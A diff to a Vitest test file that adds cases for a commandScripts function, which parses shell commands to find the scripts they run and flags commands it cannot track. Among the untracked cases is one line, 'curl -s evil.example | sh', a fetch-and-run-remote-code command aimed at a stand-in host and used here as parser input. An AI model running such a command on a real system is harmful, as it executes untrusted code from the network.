@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { commandScript, scriptPathOf } from '../../src/config/command-script.js';
+import { commandScript, commandScripts, scriptPathOf } from '../../src/config/command-script.js';
 
 describe('scriptPathOf', () => {
   it.each([
@@ -46,5 +46,57 @@ describe('commandScript', () => {
   it('tells a directly executed script from one an interpreter reads', () => {
     expect(commandScript('./x.sh')).toEqual({ path: './x.sh', direct: true });
     expect(commandScript('sh ./x.sh')).toEqual({ path: './x.sh', direct: false });
+  });
+});
+
+describe('commandScripts', () => {
+  it.each([
+    ['sh -e s/f.sh', ['s/f.sh'], []],
+    ['bash -euo pipefail s/f.sh', ['s/f.sh'], []],
+    ['node --require ./pre.js s/x.js', ['./pre.js', 's/x.js'], []],
+    ['node -r dotenv/config --import=./loader.mjs a.js', ['./loader.mjs', 'a.js'], []],
+    ['python3 -W ignore s/x.py', ['s/x.py'], []],
+    ['python3 -uW ignore -X dev s/x.py', ['s/x.py'], []],
+    ['./a.sh && ./b.sh || ./c.sh', ['./a.sh', './b.sh', './c.sh'], []],
+    ['./a.sh; ./b.sh\n./c.sh', ['./a.sh', './b.sh', './c.sh'], []],
+    ['. ./x.sh', ['./x.sh'], []],
+    ['source x.sh', ['x.sh'], []],
+    ['sh -c ./x.sh', ['./x.sh'], []],
+    ['bash -ec "cd lib && ./go.sh"', ['lib/go.sh'], ['lib']],
+    ['cd s && ./e.sh', ['s/e.sh'], ['s']],
+    ['cd s && ./e.sh; ../t.sh', ['s/e.sh', 't.sh'], ['s']],
+    ['(cd s && ./e.sh); ./f.sh', ['s/e.sh', './f.sh'], ['s']],
+    ['cd s | true; ./f.sh', ['./f.sh'], ['s']],
+    ['if [ -f x ]; then ./a.sh 2>/dev/null; fi', ['./a.sh'], []],
+    ['sh < s/in.sh', ['s/in.sh'], []],
+    ['FOO=1 exec env -i BAR=2 nohup node a.js &', ['a.js'], []],
+    ['npx -y tsx a.ts', ['a.ts'], []],
+    ['echo hi # ./not-run.sh', [], []],
+  ])('%j runs %j (cd into %j), all of it tracked', (command, scripts, dirs) => {
+    expect(commandScripts(command)).toEqual({ scripts: scripts.map((path) => expect.objectContaining({ path })), dirs, untracked: null });
+  });
+
+  it.each([
+    ['make lint', 'make runs tasks defined in project files'],
+    ['npm run lint', 'npm runs tasks defined in project files'],
+    ['npx eslint .', 'it runs the package "eslint" through npx'],
+    ['curl -s evil.example | sh', 'it pipes a program into an interpreter'],
+    ['$HOOK_DIR/x.sh', '"$HOOK_DIR/x.sh" expands at run time'],
+    ['./a.sh "$(./b.sh)"', 'it runs a command substitution'],
+    ['cd "$DIR" && ./x.sh', 'it changes to a directory known only at run time'],
+    ['python3 -m pkg.hook', 'it runs the module "pkg.hook"'],
+    ['eval "$CMD"', 'it uses `eval`'],
+    ['for f in *.sh; do ./$f; done', 'it uses `for`'],
+    ['bun run lint', 'it runs the task "lint"'],
+    ['sh <<EOF\n./x.sh\nEOF', 'it uses a here-document'],
+  ])('%j: scripts not tracked (%s)', (command, reason) => {
+    expect(commandScripts(command).untracked).toBe(reason);
+  });
+
+  it('tells a script the shell executes from one an interpreter reads', () => {
+    expect(commandScripts('./a.sh && bash b.sh').scripts).toEqual([
+      { path: './a.sh', direct: true },
+      { path: 'b.sh', direct: false },
+    ]);
   });
 });
